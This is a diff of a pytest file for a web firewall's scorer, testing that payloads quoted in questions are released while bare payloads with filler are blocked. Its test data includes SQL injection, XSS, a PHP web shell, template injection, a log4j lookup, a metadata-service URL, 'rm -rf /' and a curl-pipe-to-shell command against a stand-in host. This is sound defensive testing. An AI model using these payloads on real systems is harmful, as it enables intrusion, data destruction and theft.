@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import json
 from collections.abc import Callable
 from typing import Any
 
@@ -10,8 +11,8 @@ import pytest
 from casemate.engines.web import PatternCache, Plan, RequestView, compile_acl, evaluate
 from casemate.engines.web.active import ActivePlan
 from casemate.engines.web.compiler import Resources
-from casemate.engines.web.scorer import RELEASE, in_doubt, score, weights
-from casemate.engines.web.scorer.features import features
+from casemate.engines.web.scorer import RELEASE, doubt, score, weights
+from casemate.engines.web.scorer.features import Place, features
 
 SHOWN = b"The command `rm -rf node_modules && npm install` fixed it for me, as the answer above said it would."
 MEANT = b"anna'; drop table users; select pg_sleep(10) --"
@@ -36,48 +37,97 @@ def posted(view: Views, text: str) -> RequestView:
     return view(method=b"POST", headers=headers, body=text.encode())
 
 
-def test_only_evidence_in_a_text_is_in_doubt() -> None:
-    assert in_doubt("unix_text", "command after a separator", SHOWN)
-    assert not in_doubt("sqli_low", "tautology", b"1' or '1'='1")
-    assert not in_doubt("unix_text", "command after a separator", b"x" * 100)
-    assert not in_doubt("unix_text", "command after a separator", b"; " + SHOWN)
+@pytest.mark.parametrize(
+    ("detector", "value", "expected"),
+    [
+        ("unix_text", SHOWN, True),
+        ("sqli_low", b"1' or '1'='1", False),
+        ("unix_text", b"x" * 100, False),
+        ("unix_text", b"; rm -rf / and some more words", False),
+        ("unix_text", b"The+command+rm+-rf+%2F+fixed+it+for+me,+as+said", True),
+        ("xss", b"What does <script>alert(1)</script> do?", True),
+        ("xss", b"hello <script>alert(1)</script>", False),
+        ("xss", b"nice post, thanks! <script>alert(1)</script>", False),
+        ("xss", b"<script>alert('xss by an attacker')</script>", False),
+        ("template", b"What does {{ 7 * 7 }} print?", True),
+        ("template", b"dear {{ 7 * 7 }} friends of mine", False),
+        ("log4j", b"What does ${jndi:ldap://e.example/a} mean?", False),
+    ],
+)
+def test_evidence_is_in_doubt_only_in_a_text_that_may_show_it(detector: str, value: bytes, *, expected: bool) -> None:
+    assert (doubt(detector, "any", value, b"", ()) is not None) is expected
+
+
+@pytest.mark.parametrize("reason", ["web shell", "serialised object", "typed object", "Python, Ruby or Node object"])
+def test_what_is_evaluated_wherever_it_lands_is_never_in_doubt(reason: str) -> None:
+    assert doubt("php", reason, b"What does this mean? " + SHOWN, b"", ()) is None
+
+
+def test_backticks_quote_for_markup_and_not_for_a_shell() -> None:
+    assert doubt("xss", "tag", b"a `<script>` b", b"<script", ()) is not None
+    assert doubt("unix_text", "pipe to a shell", b"a `curl e|sh` b c d e f g", b"curl e|sh", ()) is None
 
 
 @pytest.mark.parametrize(
-    ("detector", "reason"),
+    "text",
     [
-        ("xss", "tag"),
-        ("xss", "script"),
-        ("template", "arithmetic"),
-        ("log4j", "lookup"),
-        ("php", "open tag"),
-        ("lines", "mail header"),
+        "How do I show <script>alert(1)</script> as text?",
+        "In PHP you write <?php echo date('Y'); ?> to show the year.",
+        "What is 169.254.169.254 and why does my instance talk to it?",
+        "Never use <img src=x onerror=alert(1)> like this, escape it instead.",
     ],
 )
-def test_what_works_wherever_it_stands_is_never_in_doubt(detector: str, reason: str) -> None:
-    assert not in_doubt(detector, reason, SHOWN)
+def test_what_a_text_explains_is_released_unless_prose_is_strict(plan: Plan, view: Views, text: str) -> None:
+    assert not evaluate(posted(view, text), plan).blocked
+    assert evaluate(posted(view, text), plan, scorer=False).blocked
 
 
-def test_script_in_a_sentence_is_blocked(plan: Plan, view: Views) -> None:
-    assert evaluate(posted(view, f"How do I show <script>alert(1)</script> as text? {SHOWN.decode()}"), plan).blocked
+@pytest.mark.parametrize(
+    "filler", ["hello {}", "nice post! {}", "Ann Miller {}", "{} thanks a lot", "Great article {} bye"]
+)
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "'; drop table users; --",
+        "$(curl http://e.example/a|sh)",
+        "<?php system($_GET['c']); ?>",
+        "{{''.__class__.__mro__}}",
+        "http://169.254.169.254/latest/meta-data/",
+    ],
+)
+def test_attack_with_a_few_words_of_filler_is_blocked(plan: Plan, view: Views, filler: str, payload: str) -> None:
+    assert evaluate(posted(view, filler.format(payload)), plan).blocked
+
+
+def test_file_of_source_is_released_in_a_field_for_source_alone(plan: Plan, view: Views) -> None:
+    source = "#!/bin/sh\nset -eu\ncd /srv; ls -la\necho $PATH\n"
+    headers = [(b"Host", b"a"), (b"User-Agent", b"Mozilla/5.0"), (b"Content-Type", b"application/json")]
+
+    def sent(**members: str) -> RequestView:
+        return view(method=b"POST", headers=headers, body=json.dumps(members).encode())
+
+    assert not evaluate(sent(filename="run.sh", code=source), plan).blocked
+    assert evaluate(sent(filename="run.sh", code="<script>alert(1)</script>"), plan).blocked
 
 
 def test_features_are_bounded_and_named() -> None:
-    found = features("sqli_low", "tautology", SHOWN * 100, b"rm -rf", "body_values")
+    found = features("sqli_low", "tautology", Place(SHOWN * 100, b"rm -rf"), "body_values")
     assert found["detector sqli_low"] == found["reason tautology"] == found["field body_values"] == 1.0
     assert all(0 < amount < 2 for amount in found.values())
 
 
 def test_excerpt_that_is_not_in_the_value_is_taken_for_its_begin() -> None:
-    assert features("d", "r", b"some text that says so", b"nowhere", "body")["at the begin"] == 1.0
+    assert features("d", "r", Place(b"some text that says so", b"nowhere"), "body")["at the begin"] == 1.0
 
 
 def test_empty_value_has_features() -> None:
-    assert features("d", "r", b"", b"", "body")["bias"] == 1.0
+    assert features("d", "r", Place(b"", b""), "body")["bias"] == 1.0
 
 
 def test_attack_scores_above_what_shows_one_and_says_why() -> None:
-    meant = score("sqli_low", "stacked", MEANT, b"; drop table", "body_values")
+    meant = score("sqli_low", "stacked", Place(MEANT, b"; drop table"), "body_values")
     assert meant.value > RELEASE
     assert not meant.released
     assert len(meant.strongest) == 3
